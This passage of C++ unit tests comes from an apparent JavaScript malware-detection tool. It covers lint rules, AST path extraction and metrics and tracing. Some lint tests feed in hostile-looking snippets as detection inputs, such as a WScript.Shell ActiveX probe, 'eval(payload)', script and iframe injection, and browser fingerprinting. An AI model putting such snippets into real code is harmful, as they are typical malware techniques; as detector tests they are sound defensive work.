  EXPECT_EQ(count("for (var i = 0; i < n; i++) { sum += i; }", "M06"), 0);
}

TEST_F(LintRules, M07ActiveXProbe) {
  EXPECT_EQ(count("var sh = new ActiveXObject(\"WScript.Shell\");", "M07"), 1);
  EXPECT_EQ(count("WScript.Sleep(100);", "M07"), 1);
  // Locally declared shadow is not a host-object probe.
  EXPECT_EQ(count("var ActiveXObject = stub; var x = ActiveXObject();", "M07"),
            0);
  EXPECT_EQ(count("var sh = helper();", "M07"), 0);
}

TEST_F(LintRules, M08EnvFingerprinting) {
  EXPECT_EQ(count("if (navigator.userAgent && navigator.platform) { go(); }",
                  "M08"),
            1);
  EXPECT_EQ(count("var w = screen.width; var h = screen.height;", "M08"), 1);
  EXPECT_EQ(count("log(navigator.userAgent);", "M08"), 0);  // single probe
}

TEST_F(LintRules, M09TimerStringEval) {
  EXPECT_EQ(count("setTimeout(\"doWork()\", 10);", "M09"), 1);
  EXPECT_EQ(count("window.setInterval(\"tick()\" + n, 50);", "M09"), 1);
  EXPECT_EQ(count("setTimeout(function () { doWork(); }, 10);", "M09"), 0);
  EXPECT_EQ(count("setTimeout(cb, 10);", "M09"), 0);
}

TEST_F(LintRules, M10ScriptInjection) {
  EXPECT_EQ(count("var s = document.createElement(\"script\");", "M10"), 1);
  EXPECT_EQ(count("var f = d.createElement(\"IFRAME\");", "M10"), 1);
  EXPECT_EQ(count("var d = document.createElement(\"div\");", "M10"), 0);
}

// ---- hygiene rules -------------------------------------------------------

TEST_F(LintRules, H01WithStatement) {
  EXPECT_EQ(count("with (obj) { total = price * 2; }", "H01"), 1);
  EXPECT_EQ(count("var total = obj.price * 2;", "H01"), 0);
}

TEST_F(LintRules, H02UndeclaredAssignment) {
  EXPECT_EQ(count("tracker = collect();", "H02"), 1);
  EXPECT_EQ(count("var tracker = collect();", "H02"), 0);  // declared
  EXPECT_EQ(count("onload = init;", "H02"), 0);  // well-known host global
}

TEST_F(LintRules, H03UnreachableCode) {
  EXPECT_EQ(count("function f() { return 1; cleanup(); }", "H03"), 1);
  EXPECT_EQ(count("throw err; afterThrow();", "H03"), 1);
  EXPECT_EQ(count("function f() { if (x) { return 1; } cleanup(); }", "H03"),
            0);
  // Hoisted function declarations after a return stay callable.
  EXPECT_EQ(count("function f() { return g(); function g() {} }", "H03"), 0);
}

TEST_F(LintRules, H03ReportsOnlyOutermost) {
  EXPECT_EQ(count("function f() { return 1; if (x) { a(); b(); } }", "H03"),
            1);
}

TEST_F(LintRules, H04WriteOnlyVariable) {
  EXPECT_EQ(count("var deadStore = compute();", "H04"), 1);
  EXPECT_EQ(count("var n = 0; n = 1; n++;", "H04"), 1);
  EXPECT_EQ(count("var n = 0; use(n);", "H04"), 0);
  // Catch params are written by the throw machinery — never write-only.
  EXPECT_EQ(count("try { f(); } catch (e) { }", "H04"), 0);
  // Function params are written by every call.
  EXPECT_EQ(count("function f(unusedArg) { return 1; }", "H04"), 0);
}

TEST_F(LintRules, H05ConstantCondition) {
  EXPECT_EQ(count("if (true) { a(); }", "H05"), 1);
  EXPECT_EQ(count("var v = false ? a() : b();", "H05"), 1);
  EXPECT_EQ(count("if (!1) { a(); }", "H05"), 1);
  EXPECT_EQ(count("if (x) { a(); }", "H05"), 0);
  // while (true) is the idiomatic infinite loop, deliberately exempt.
  EXPECT_EQ(count("while (true) { if (step()) { break; } }", "H05"), 0);
}

// ---- diagnostics metadata ------------------------------------------------

TEST_F(LintRules, DiagnosticCarriesSpanAndExcerpt) {
  const auto diags = lint("var ok = 1;\nuse(ok);\neval(payload);\n");
  ASSERT_EQ(diags.size(), 1u);
  EXPECT_EQ(diags[0].rule_id, "M01");
  EXPECT_EQ(diags[0].line, 3u);
  EXPECT_EQ(diags[0].node_kind, "CallExpression");
  EXPECT_EQ(diags[0].excerpt, "eval(payload)");
  EXPECT_EQ(diags[0].severity, Severity::kError);
  EXPECT_EQ(diags[0].category, Category::kMalice);
}

TEST_F(LintRules, ParseFailureIsReportedNotThrown) {
  LintResult r;
  EXPECT_NO_THROW(r = linter_.lint("var = ;"));
  EXPECT_TRUE(r.parse_failed);
  EXPECT_FALSE(r.parse_error.empty());
  EXPECT_TRUE(r.diagnostics.empty());
}

// ---- summary feature vector ----------------------------------------------

TEST_F(LintRules, FeatureVectorShape) {
  EXPECT_EQ(lint_feature_names().size(), kLintFeatureDim);
  const LintResult r = linter_.lint("eval(payload);");
  const std::vector<double> f = lint_feature_vector(r);
  ASSERT_EQ(f.size(), kLintFeatureDim);
  EXPECT_DOUBLE_EQ(f[0], 1.0);  // one malice diagnostic
  EXPECT_DOUBLE_EQ(f[1], 0.0);  // no hygiene diagnostics
  EXPECT_DOUBLE_EQ(f[2], severity_weight(Severity::kError));
  EXPECT_DOUBLE_EQ(f[3], 1.0);  // one distinct rule
}

TEST_F(LintRules, FeatureVectorZeroOnParseFailure) {
  const std::vector<double> f =
      lint_feature_vector(linter_.lint("function ("));
  for (const double v : f) EXPECT_DOUBLE_EQ(v, 0.0);
}

TEST_F(LintRules, FeatureVectorCountsDistinctRulesOnce) {
  // Two M01 hits + one H02: malice=2, distinct rules=2.
  const LintResult r =
      linter_.lint("eval(a); eval(b); leak = 1;");
  const std::vector<double> f = lint_feature_vector(r);
  EXPECT_DOUBLE_EQ(f[0], 2.0);
  EXPECT_DOUBLE_EQ(f[1], 1.0);
  EXPECT_DOUBLE_EQ(f[3], 2.0);
}

// ---- reports -------------------------------------------------------------

TEST_F(LintRules, TextReportMentionsRuleAndSeverity) {
  std::vector<NamedResult> named;
  named.push_back({"sample.js", linter_.lint("eval(payload);")});
  const std::string text = render_text(named);
  EXPECT_NE(text.find("sample.js:1"), std::string::npos);
  EXPECT_NE(text.find("[M01/eval-non-literal]"), std::string::npos);
  EXPECT_NE(text.find("1 error(s)"), std::string::npos);
}

TEST_F(LintRules, JsonReportIsStructured) {
  std::vector<NamedResult> named;
  named.push_back({"a \"quoted\" name.js", linter_.lint("eval(p);")});
  const std::string json = render_json(named);
  EXPECT_NE(json.find("\"rule_id\":\"M01\""), std::string::npos);
  EXPECT_NE(json.find("\"a \\\"quoted\\\" name.js\""), std::string::npos);
  EXPECT_NE(json.find("\"totals\":{\"inputs\":1"), std::string::npos);
  EXPECT_NE(json.find("\"malice_diags\":1.0"), std::string::npos);
}

// ---- determinism ---------------------------------------------------------

TEST_F(LintRules, LintAllDeterministicAcrossWidths) {
  dataset::GeneratorConfig gc;
  gc.seed = 99;
  gc.benign_count = 20;
  gc.malicious_count = 20;
  const dataset::Corpus corpus = dataset::generate_corpus(gc);
  std::vector<std::string> sources;
  for (const auto& s : corpus.samples) sources.push_back(s.source);

  auto fingerprint = [](const std::vector<LintResult>& rs) {
    std::string fp;
    for (const LintResult& r : rs) {
      for (const Diagnostic& d : r.diagnostics) {
        fp += d.rule_id + ":" + std::to_string(d.line) + ";";
      }
      fp += "|";
    }
    return fp;
  };
  const std::string serial = fingerprint(linter_.lint_all(sources, 1));
  EXPECT_EQ(fingerprint(linter_.lint_all(sources, 2)), serial);
  EXPECT_EQ(fingerprint(linter_.lint_all(sources, 4)), serial);
}

// ---- property: never throws on obfuscated output -------------------------

TEST_F(LintRules, NeverThrowsOnObfuscatedScripts) {
  Rng rng(4242);
  std::vector<std::string> raw;
  for (int i = 0; i < 25; ++i) {
    raw.push_back(dataset::generate_benign(rng));
    raw.push_back(dataset::generate_malicious(rng));
  }

  std::size_t linted = 0;
  for (const obf::ObfuscatorKind kind : obf::kAllObfuscators) {
    const auto obfuscator = obf::make_obfuscator(kind);
    for (std::size_t i = 0; i < raw.size(); ++i) {
      const std::string obfuscated = obfuscator->obfuscate(raw[i], 1000 + i);
      LintResult r;
      ASSERT_NO_THROW(r = linter_.lint(obfuscated))
          << obfuscator->name() << " script " << i;
      EXPECT_FALSE(r.parse_failed)
          << obfuscator->name() << " script " << i << ": " << r.parse_error;
      ++linted;
    }
  }
  EXPECT_GE(linted, 200u);
}

}  // namespace
}  // namespace jsrev::lint
