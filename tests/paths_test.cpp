#include <gtest/gtest.h>

#include <set>
#include <string>

#include "analysis/dataflow.h"
#include "analysis/scope.h"
#include "js/parser.h"
#include "paths/path_extraction.h"
#include "paths/vocab.h"

namespace jsrev::paths {
namespace {

struct Extracted {
  js::Ast ast;
  analysis::ScopeInfo scopes;
  analysis::DataFlowInfo flow;
  std::vector<PathContext> paths;
};

Extracted extract(const std::string& src, PathConfig cfg = {}) {
  Extracted e;
  e.ast = js::parse(src);
  e.scopes = analysis::analyze_scopes(e.ast.root);
  e.flow = analysis::analyze_dataflow(e.ast.root, e.scopes);
  e.paths = extract_paths(e.ast.root, &e.flow, cfg);
  return e;
}

TEST(PathExtraction, SimpleProgramYieldsPaths) {
  const auto e = extract("var a = 1 + 2;");
  EXPECT_FALSE(e.paths.empty());
  for (const auto& p : e.paths) {
    EXPECT_FALSE(p.path.empty());
    EXPECT_FALSE(p.source_value.empty());
    EXPECT_FALSE(p.target_value.empty());
  }
}

TEST(PathExtraction, EmptyProgramYieldsNoPaths) {
  const auto e = extract("");
  EXPECT_TRUE(e.paths.empty());
}

TEST(PathExtraction, PathCountGrowsWithLeafPairs) {
  const auto small = extract("var a = 1;");
  const auto big = extract("var a = 1; var b = 2; var c = 3;");
  EXPECT_GT(big.paths.size(), small.paths.size());
}

TEST(PathExtraction, MaxLengthRespected) {
  PathConfig cfg;
  cfg.max_length = 4;
  const auto e = extract(
      "function f(x) { if (x) { return g(x + 1) * 2; } return 0; }", cfg);
  for (const auto& p : e.paths) {
    // Count nodes in the rendered path: separators are '^' and 'v' between
    // kind names; nodes = separators + 1.
    int seps = 0;
    for (std::size_t i = 0; i < p.path.size(); ++i) {
      const char c = p.path[i];
      if (c == '^') ++seps;
      // 'v' is a separator only between an uppercase-terminated kind and an
      // uppercase start; our kinds never contain lowercase 'v' followed by
      // uppercase except as the separator.
      if (c == 'v' && i + 1 < p.path.size() && std::isupper(p.path[i + 1]))
        ++seps;
    }
    EXPECT_LE(seps + 1, cfg.max_length) << p.path;
  }
}

TEST(PathExtraction, MaxWidthRespected) {
  PathConfig narrow;
  narrow.max_width = 1;
  PathConfig wide;
  wide.max_width = 100;
  const std::string src = "f(a, b, c, d, e, g, h, i);";
  const auto n = extract(src, narrow);
  const auto w = extract(src, wide);
  EXPECT_LT(n.paths.size(), w.paths.size());
}

TEST(PathExtraction, MaxPathsCap) {
  PathConfig cfg;
  cfg.max_paths = 10;
  std::string src;
  for (int i = 0; i < 30; ++i) src += "var v" + std::to_string(i) + " = 1;\n";
  const auto e = extract(src, cfg);
  EXPECT_EQ(e.paths.size(), 10u);
}

TEST(PathExtraction, DataLinkedLeavesShareValue) {
  // `total` flows between two statements: a path between its two
  // occurrences carries the shared same-symbol value @vs on both ends.
  const auto e = extract("var total = 1; use(total);");
  bool found_same = false;
  for (const auto& p : e.paths) {
    if (p.source_value == "@vs" && p.target_value == "@vs") {
      found_same = true;
    }
  }
  EXPECT_TRUE(found_same);
}

TEST(PathExtraction, DistinctLinkedSymbolsMarkedDifferent) {
  // Two different flow-linked variables in one path: @va / @vb endpoints.
  const auto e = extract("var a = 1; var b = a + 2; use(a, b);");
  bool found_diff = false;
  for (const auto& p : e.paths) {
    if (p.source_value == "@va" && p.target_value == "@vb") {
      found_diff = true;
    }
  }
  EXPECT_TRUE(found_diff);
}

TEST(PathExtraction, LinkedValuesStableUnderPrefixInsertion) {
  // Prepending unrelated code must not change the payload's path keys
  // (insertion-invariance of the linked-value encoding).
  const std::string payload = "var total = f(); use(total); total = total + 1;";
  const auto plain = extract(payload);
  const auto shifted = extract(
      "var zz1 = g(); h(zz1); var zz2 = zz1 * 3; send(zz2);\n" + payload);
  std::multiset<std::string> plain_keys;
  for (const auto& p : plain.paths) plain_keys.insert(p.key());
  std::size_t found = 0;
  std::multiset<std::string> shifted_keys;
  for (const auto& p : shifted.paths) shifted_keys.insert(p.key());
  for (const auto& k : plain_keys) found += shifted_keys.count(k) > 0;
  // Every within-payload path key must reappear verbatim.
  EXPECT_EQ(found, plain_keys.size());
}

TEST(PathExtraction, UnlinkedLeavesAbstracted) {
  const auto e = extract("var s = \"hello\";");
  std::set<std::string> values;
  for (const auto& p : e.paths) {
    values.insert(p.source_value);
    values.insert(p.target_value);
  }
  EXPECT_TRUE(values.count("@var_str") == 1);
}

TEST(PathExtraction, IntegerVsFloatIndicators) {
  const auto e = extract("f(3, 2.5);");
  std::set<std::string> values;
  for (const auto& p : e.paths) {
    values.insert(p.source_value);
    values.insert(p.target_value);
  }
  EXPECT_TRUE(values.count("@var_int") == 1);
  EXPECT_TRUE(values.count("@var_num") == 1);
}

TEST(PathExtraction, RegularAstAblationUsesRawValues) {
  // The Table IV ablation is code2vec-style: concrete leaf values.
  PathConfig cfg;
  cfg.use_dataflow = false;
  const auto ast = js::parse("var total = 1; use(total);");
  const auto paths = extract_paths(ast.root, nullptr, cfg);
  bool saw_raw_name = false;
  for (const auto& p : paths) {
    saw_raw_name = saw_raw_name || p.source_value == "total" ||
                   p.target_value == "total";
  }
  EXPECT_TRUE(saw_raw_name);
}

TEST(PathExtraction, RenamingInvariantWithDataflow) {
  // Consistent renaming must produce the identical path-key multiset.
  const auto a = extract("var count = f(); g(count); var x = count + 1;");
  const auto b = extract("var qz = f(); g(qz); var ww = qz + 1;");
  std::multiset<std::string> ka, kb;
  for (const auto& p : a.paths) ka.insert(p.key());
  for (const auto& p : b.paths) kb.insert(p.key());
  EXPECT_EQ(ka, kb);
}

TEST(PathExtraction, DirectionMarkersPresent) {
  const auto e = extract("var a = b + c;");
  bool has_up_down = false;
  for (const auto& p : e.paths) {
    if (p.path.find('^') != std::string::npos &&
        p.path.find('v') != std::string::npos) {
      has_up_down = true;
    }
  }
  EXPECT_TRUE(has_up_down);
}

TEST(PathVocab, AddAndLookup) {
  PathVocab vocab;
  PathContext pc{"@var_int", "Literal^BinaryExpressionvLiteral", "@var_int",
                 nullptr, nullptr};
  const auto id = vocab.add(pc);
  EXPECT_EQ(vocab.lookup(pc), id);
  EXPECT_EQ(vocab.size(), 1u);
}

TEST(PathVocab, DuplicateAddReturnsSameId) {
  PathVocab vocab;
  PathContext pc{"a", "P", "b", nullptr, nullptr};
  EXPECT_EQ(vocab.add(pc), vocab.add(pc));
  EXPECT_EQ(vocab.size(), 1u);
}

TEST(PathVocab, UnknownLookup) {
  PathVocab vocab;
  PathContext pc{"a", "P", "b", nullptr, nullptr};
  EXPECT_EQ(vocab.lookup(pc), PathVocab::kUnknown);
}

TEST(PathVocab, RepresentativeRoundTrip) {
  PathVocab vocab;
  PathContext pc{"x", "IdentifiervLiteral", "y", nullptr, nullptr};
  const auto id = vocab.add(pc);
  const PathContext& rep = vocab.representative(id);
  EXPECT_EQ(rep.source_value, "x");
  EXPECT_EQ(rep.path, "IdentifiervLiteral");
  EXPECT_EQ(rep.target_value, "y");
  EXPECT_EQ(vocab.key(id), pc.key());
}

// Property sweep: path extraction must be deterministic and within caps for
// a variety of generated programs.
class PathSweep : public ::testing::TestWithParam<int> {};

TEST_P(PathSweep, DeterministicAndBounded) {
  std::string src;
  const int n = GetParam();
  for (int i = 0; i < n; ++i) {
    src += "function fn" + std::to_string(i) + "(a, b) { var r = a * " +
           std::to_string(i) + " + b; if (r > 10) { return r; } return b; }\n";
  }
  PathConfig cfg;
  const auto e1 = extract(src, cfg);
  const auto e2 = extract(src, cfg);
  ASSERT_EQ(e1.paths.size(), e2.paths.size());
  for (std::size_t i = 0; i < e1.paths.size(); ++i) {
    EXPECT_EQ(e1.paths[i].key(), e2.paths[i].key());
  }
  EXPECT_LE(e1.paths.size(), cfg.max_paths);
}

INSTANTIATE_TEST_SUITE_P(Sizes, PathSweep, ::testing::Values(1, 3, 7, 15));

}  // namespace
}  // namespace jsrev::paths
