// Tests for the observability layer: metrics registry primitives, the JSON
// toolkit (writer, parser, BENCH envelope, Chrome-trace validation), span
// tracing, per-verdict provenance, and the two cross-cutting invariants the
// subsystem promises —
//  * deterministic_json() is byte-identical at thread widths 1/2/8 for a
//    fixed workload, and
//  * repeated batch inference reports only the most recent batch (the
//    StageTimings::reset_inference regression: without it, stale wall totals
//    inflate the apparent per-stage parallel speedup past the thread count).
#include <gtest/gtest.h>

#include <algorithm>
#include <atomic>
#include <stdexcept>
#include <string>
#include <thread>
#include <vector>

#include "analysis/script_analysis.h"
#include "core/jsrevealer.h"
#include "dataset/generator.h"
#include "obs/json.h"
#include "obs/metrics.h"
#include "obs/provenance.h"
#include "obs/trace.h"
#include "util/rng.h"

namespace jsrev {
namespace {

// ---------------------------------------------------------------------------
// Metrics primitives.

TEST(Metrics, CounterAddsMergesShardsAndResets) {
  obs::Counter c;
  EXPECT_EQ(c.value(), 0u);
  c.add();
  c.add(41);
  EXPECT_EQ(c.value(), 42u);
  c.reset();
  EXPECT_EQ(c.value(), 0u);
}

TEST(Metrics, CounterExactUnderConcurrentWriters) {
  obs::Counter c;
  constexpr int kThreads = 8;
  constexpr std::uint64_t kPerThread = 10000;
  std::vector<std::thread> workers;
  workers.reserve(kThreads);
  for (int t = 0; t < kThreads; ++t) {
    workers.emplace_back([&c] {
      for (std::uint64_t i = 0; i < kPerThread; ++i) c.add();
    });
  }
  for (auto& w : workers) w.join();
  EXPECT_EQ(c.value(), kThreads * kPerThread);
}

TEST(Metrics, GaugeSetAddSub) {
  obs::Gauge g;
  g.set(10);
  g.add(5);
  g.sub(2);
  EXPECT_EQ(g.value(), 13);
  g.set(-4);
  EXPECT_EQ(g.value(), -4);
}

TEST(Metrics, SummaryMomentsAreExact) {
  obs::Summary s;
  EXPECT_EQ(s.count(), 0u);
  EXPECT_DOUBLE_EQ(s.mean(), 0.0);
  EXPECT_DOUBLE_EQ(s.stddev(), 0.0);
  s.observe(1.0);
  s.observe(3.0);
  s.observe(5.0);
  EXPECT_EQ(s.count(), 3u);
  EXPECT_DOUBLE_EQ(s.sum(), 9.0);
  EXPECT_DOUBLE_EQ(s.mean(), 3.0);
  EXPECT_DOUBLE_EQ(s.min(), 1.0);
  EXPECT_DOUBLE_EQ(s.max(), 5.0);
  EXPECT_NEAR(s.stddev(), 2.0, 1e-12);  // sample stddev of {1,3,5}
  s.reset();
  EXPECT_EQ(s.count(), 0u);
  EXPECT_DOUBLE_EQ(s.sum(), 0.0);
}

TEST(Metrics, HistogramBucketsAndOverflow) {
  obs::Histogram h({1.0, 10.0, 100.0});
  h.observe(0.5);    // <= 1
  h.observe(1.0);    // <= 1 (bounds are inclusive upper limits)
  h.observe(7.0);    // <= 10
  h.observe(1000.0); // overflow
  const std::vector<std::uint64_t> counts = h.bucket_counts();
  ASSERT_EQ(counts.size(), 4u);
  EXPECT_EQ(counts[0], 2u);
  EXPECT_EQ(counts[1], 1u);
  EXPECT_EQ(counts[2], 0u);
  EXPECT_EQ(counts[3], 1u);
  EXPECT_EQ(h.count(), 4u);
  EXPECT_DOUBLE_EQ(h.sum(), 1008.5);
}

TEST(Metrics, RegistryReturnsStablePointersPerNameAndLabels) {
  obs::Registry reg;
  obs::Counter* a = reg.counter("test.hits", {{"rule", "M01"}});
  obs::Counter* b = reg.counter("test.hits", {{"rule", "M01"}});
  obs::Counter* c = reg.counter("test.hits", {{"rule", "M02"}});
  EXPECT_EQ(a, b);
  EXPECT_NE(a, c);
  a->add(3);
  EXPECT_EQ(b->value(), 3u);
  EXPECT_EQ(c->value(), 0u);
}

TEST(Metrics, RegistryRejectsKindMixOnOneName) {
  obs::Registry reg;
  reg.counter("test.mixed");
  EXPECT_THROW(reg.gauge("test.mixed"), std::logic_error);
  EXPECT_THROW(reg.summary("test.mixed"), std::logic_error);
  EXPECT_THROW(reg.histogram("test.mixed", {1.0}), std::logic_error);
}

TEST(Metrics, KillSwitchTurnsMutationsIntoNoops) {
  obs::Counter c;
  obs::Summary s;
  obs::set_metrics_enabled(false);
  c.add(5);
  s.observe(1.0);
  obs::set_metrics_enabled(true);
  EXPECT_EQ(c.value(), 0u);
  EXPECT_EQ(s.count(), 0u);
  c.add(5);
  EXPECT_EQ(c.value(), 5u);
}

TEST(Metrics, ExportsAreValidJsonAndSorted) {
  obs::Registry reg;
  reg.counter("z.last")->add(1);
  reg.counter("a.first")->add(2);
  reg.gauge("m.middle")->set(-7);
  const std::string json = reg.to_json();
  std::string error;
  ASSERT_TRUE(obs::json_valid(json, &error)) << error;
  // Sorted by (name, labels): a.first renders before m.middle before z.last.
  EXPECT_LT(json.find("a.first"), json.find("m.middle"));
  EXPECT_LT(json.find("m.middle"), json.find("z.last"));
  ASSERT_TRUE(obs::json_valid(reg.deterministic_json(), &error)) << error;
}

TEST(Metrics, DeterministicExportExcludesDurationsAndScheduleDependent) {
  obs::Registry reg;
  reg.counter("test.kept")->add(1);
  reg.counter("test.sched", {}, obs::kScheduleDependent)->add(1);
  reg.summary("test.ms", {}, obs::kMillisOptions)->observe(1.0);
  const std::string det = reg.deterministic_json();
  EXPECT_NE(det.find("test.kept"), std::string::npos);
  EXPECT_EQ(det.find("test.sched"), std::string::npos);
  EXPECT_EQ(det.find("test.ms"), std::string::npos);
  // The full export keeps everything.
  const std::string full = reg.to_json();
  EXPECT_NE(full.find("test.sched"), std::string::npos);
  EXPECT_NE(full.find("test.ms"), std::string::npos);
}

// ---------------------------------------------------------------------------
// JSON toolkit.

TEST(Json, WriterParserRoundTrip) {
  obs::JsonWriter w;
  w.begin_object()
      .kv("name", "quote\"back\\slash\nnewline")
      .kv("truth", true)
      .kv("count", std::uint64_t{42})
      .kv("neg", std::int64_t{-7})
      .kv_fixed("ratio", 0.125, 3)
      .key("nothing")
      .null_value()
      .key("items")
      .begin_array()
      .value(std::int64_t{1})
      .value("two")
      .begin_object()
      .kv("k", std::int64_t{3})
      .end_object()
      .end_array()
      .end_object();
  std::string error;
  const auto doc = obs::json_parse(w.str(), &error);
  ASSERT_NE(doc, nullptr) << error;
  ASSERT_TRUE(doc->is_object());
  EXPECT_EQ(doc->find("name")->string, "quote\"back\\slash\nnewline");
  EXPECT_TRUE(doc->find("truth")->boolean);
  EXPECT_DOUBLE_EQ(doc->find("count")->number, 42.0);
  EXPECT_DOUBLE_EQ(doc->find("neg")->number, -7.0);
  EXPECT_DOUBLE_EQ(doc->find("ratio")->number, 0.125);
  EXPECT_EQ(doc->find("nothing")->kind, obs::JsonValue::Kind::kNull);
  const obs::JsonValue* items = doc->find("items");
  ASSERT_TRUE(items != nullptr && items->is_array());
  ASSERT_EQ(items->array.size(), 3u);
  EXPECT_DOUBLE_EQ(items->array[0].number, 1.0);
  EXPECT_EQ(items->array[1].string, "two");
  EXPECT_DOUBLE_EQ(items->array[2].find("k")->number, 3.0);
}

TEST(Json, ParserRejectsMalformedInput) {
  for (const char* bad :
       {"", "{", "[1,]", "{\"a\":}", "{\"a\":1} trailing", "\"unterminated",
        "tru", "{\"a\" 1}", "[1 2]", "nan"}) {
    std::string error;
    EXPECT_EQ(obs::json_parse(bad, &error), nullptr) << bad;
    EXPECT_FALSE(error.empty()) << bad;
  }
}

TEST(Json, BenchEnvelopeWritesAndValidates) {
  obs::JsonWriter w;
  obs::write_bench_header(w, "unit");
  w.kv("payload", std::uint64_t{1}).end_object();
  std::string error;
  EXPECT_TRUE(obs::validate_bench_json(w.str(), "unit", &error)) << error;
  EXPECT_TRUE(obs::validate_bench_json(w.str(), {}, &error)) << error;
  // Wrong bench name and missing envelope fields are both rejected.
  EXPECT_FALSE(obs::validate_bench_json(w.str(), "other", &error));
  EXPECT_FALSE(obs::validate_bench_json("{\"bench\": \"unit\"}", "unit",
                                        &error));
  EXPECT_FALSE(obs::validate_bench_json("[]", {}, &error));
}

TEST(Json, ChromeTraceValidatorChecksShape) {
  std::string error;
  EXPECT_TRUE(obs::validate_chrome_trace_json(
      R"({"traceEvents": [{"name": "a", "cat": "x", "ph": "X",)"
      R"( "ts": 1, "dur": 2, "pid": 1, "tid": 1}]})",
      &error))
      << error;
  EXPECT_TRUE(obs::validate_chrome_trace_json(R"({"traceEvents": []})",
                                              &error))
      << error;
  EXPECT_FALSE(obs::validate_chrome_trace_json("{}", &error));
  EXPECT_FALSE(obs::validate_chrome_trace_json(
      R"({"traceEvents": [{"name": "a"}]})", &error));
}

// ---------------------------------------------------------------------------
// Span tracer.

TEST(Trace, DisabledSpansRecordNothing) {
  obs::Tracer& tracer = obs::Tracer::global();
  tracer.set_enabled(false);
  tracer.clear();
  {
    obs::Span outer("outer", "test");
    obs::Span inner("inner", "test");
  }
  EXPECT_EQ(tracer.event_count(), 0u);
}

TEST(Trace, ExportIsWellFormedAndSpansNestPerThread) {
  obs::Tracer& tracer = obs::Tracer::global();
  tracer.clear();
  tracer.set_enabled(true);
  const auto burn = [] {
    volatile double x = 0;
    for (int i = 0; i < 20000; ++i) x = x + i;
  };
  const auto spin_spans = [&] {
    for (int i = 0; i < 4; ++i) {
      obs::Span outer("outer", "test");
      burn();
      {
        obs::Span inner("inner", "test");
        burn();
      }
      burn();
    }
  };
  std::thread other(spin_spans);
  spin_spans();
  other.join();
  tracer.set_enabled(false);
  const std::string json = tracer.export_chrome_json(/*clear_after=*/true);
  EXPECT_EQ(tracer.event_count(), 0u);  // clear_after emptied the buffers

  std::string error;
  ASSERT_TRUE(obs::validate_chrome_trace_json(json, &error)) << error;
  const auto doc = obs::json_parse(json, &error);
  ASSERT_NE(doc, nullptr) << error;
  const obs::JsonValue* events = doc->find("traceEvents");
  ASSERT_TRUE(events != nullptr && events->is_array());
  ASSERT_EQ(events->array.size(), 16u);  // 2 threads x 4 iterations x 2 spans

  // Per-thread nesting invariant: RAII spans recorded on one thread are
  // either disjoint or properly contained — never partially overlapping.
  struct Interval {
    double begin, end;
  };
  std::vector<std::vector<Interval>> by_tid;
  for (const obs::JsonValue& e : events->array) {
    EXPECT_EQ(e.find("ph")->string, "X");
    EXPECT_DOUBLE_EQ(e.find("pid")->number, 1.0);
    const std::string& name = e.find("name")->string;
    EXPECT_TRUE(name == "outer" || name == "inner") << name;
    const auto tid = static_cast<std::size_t>(e.find("tid")->number);
    ASSERT_GE(tid, 1u);
    if (by_tid.size() < tid) by_tid.resize(tid);
    const double ts = e.find("ts")->number;
    by_tid[tid - 1].push_back({ts, ts + e.find("dur")->number});
  }
  for (const auto& intervals : by_tid) {
    for (std::size_t i = 0; i < intervals.size(); ++i) {
      for (std::size_t j = i + 1; j < intervals.size(); ++j) {
        const Interval& a = intervals[i];
        const Interval& b = intervals[j];
        const bool disjoint = a.end <= b.begin || b.end <= a.begin;
        const bool nested = (a.begin <= b.begin && b.end <= a.end) ||
                            (b.begin <= a.begin && a.end <= b.end);
        EXPECT_TRUE(disjoint || nested)
            << "partial overlap: [" << a.begin << "," << a.end << ") vs ["
            << b.begin << "," << b.end << ")";
      }
    }
  }
}

TEST(Trace, LongNamesAreTruncatedNotCorrupted) {
  obs::Tracer& tracer = obs::Tracer::global();
  tracer.clear();
  tracer.set_enabled(true);
  const std::string long_name(200, 'n');
  const std::string long_cat(200, 'c');
  { obs::Span span(long_name.c_str(), long_cat.c_str()); }
  tracer.set_enabled(false);
  const std::string json = tracer.export_chrome_json(/*clear_after=*/true);
  std::string error;
  const auto doc = obs::json_parse(json, &error);
  ASSERT_NE(doc, nullptr) << error;
  const obs::JsonValue& e = doc->find("traceEvents")->array.at(0);
  EXPECT_EQ(e.find("name")->string, std::string(obs::Tracer::kMaxName, 'n'));
  EXPECT_EQ(e.find("cat")->string,
            std::string(obs::Tracer::kMaxCategory, 'c'));
}

// ---------------------------------------------------------------------------
// End-to-end invariants over the instrumented pipeline.

dataset::Split small_split(std::size_t per_class, std::size_t train_per_class,
                           std::uint64_t seed) {
  dataset::GeneratorConfig gc;
  gc.seed = seed;
  gc.benign_count = per_class;
  gc.malicious_count = per_class;
  const dataset::Corpus corpus = dataset::generate_corpus(gc);
  Rng rng(seed);
  return dataset::split_corpus(corpus, train_per_class, train_per_class, rng);
}

TEST(ObsDeterminism, DeterministicJsonByteIdenticalAcrossThreadWidths) {
  const dataset::Split split = small_split(16, 12, 1234);
  std::vector<std::string> sources;
  for (const auto& s : split.test.samples) sources.push_back(s.source);

  std::vector<std::string> exports;
  for (const std::size_t width : {std::size_t{1}, std::size_t{2},
                                  std::size_t{8}}) {
    obs::metrics().reset();
    core::Config cfg;
    cfg.seed = 7;
    cfg.threads = width;
    cfg.lint_features = true;
    core::JsRevealer det(cfg);
    det.train(split.train);
    det.classify_all(sources);
    exports.push_back(obs::metrics().deterministic_json());
  }
  ASSERT_EQ(exports.size(), 3u);
  EXPECT_EQ(exports[0], exports[1]) << "width 1 vs 2";
  EXPECT_EQ(exports[0], exports[2]) << "width 1 vs 8";
  std::string error;
  EXPECT_TRUE(obs::json_valid(exports[0], &error)) << error;
}

TEST(Provenance, ExplainFillsRecordAndRendersValidJson) {
  const dataset::Split split = small_split(16, 12, 99);
  core::Config cfg;
  cfg.seed = 7;
  cfg.lint_features = true;
  core::JsRevealer det(cfg);
  det.train(split.train);

  const std::string& source = split.test.samples.front().source;
  const obs::VerdictProvenance prov = det.explain(source);
  EXPECT_EQ(prov.detector, "JSRevealer");
  EXPECT_TRUE(prov.verdict == 0 || prov.verdict == 1);
  EXPECT_EQ(prov.source_bytes, source.size());
  EXPECT_FALSE(prov.parse_failed);
  EXPECT_GT(prov.path_count, 0u);
  EXPECT_LE(prov.known_path_count, prov.path_count);
  for (const obs::ClusterAttention& ca : prov.cluster_attention) {
    EXPECT_GT(ca.mass, 0.0);
    EXPECT_GE(ca.feature_index, 0);
  }
  // The verdict matches a plain classification of the same source.
  EXPECT_EQ(prov.verdict, det.classify(source));
  EXPECT_TRUE(std::is_sorted(prov.lint_rules_fired.begin(),
                             prov.lint_rules_fired.end()));

  std::string error;
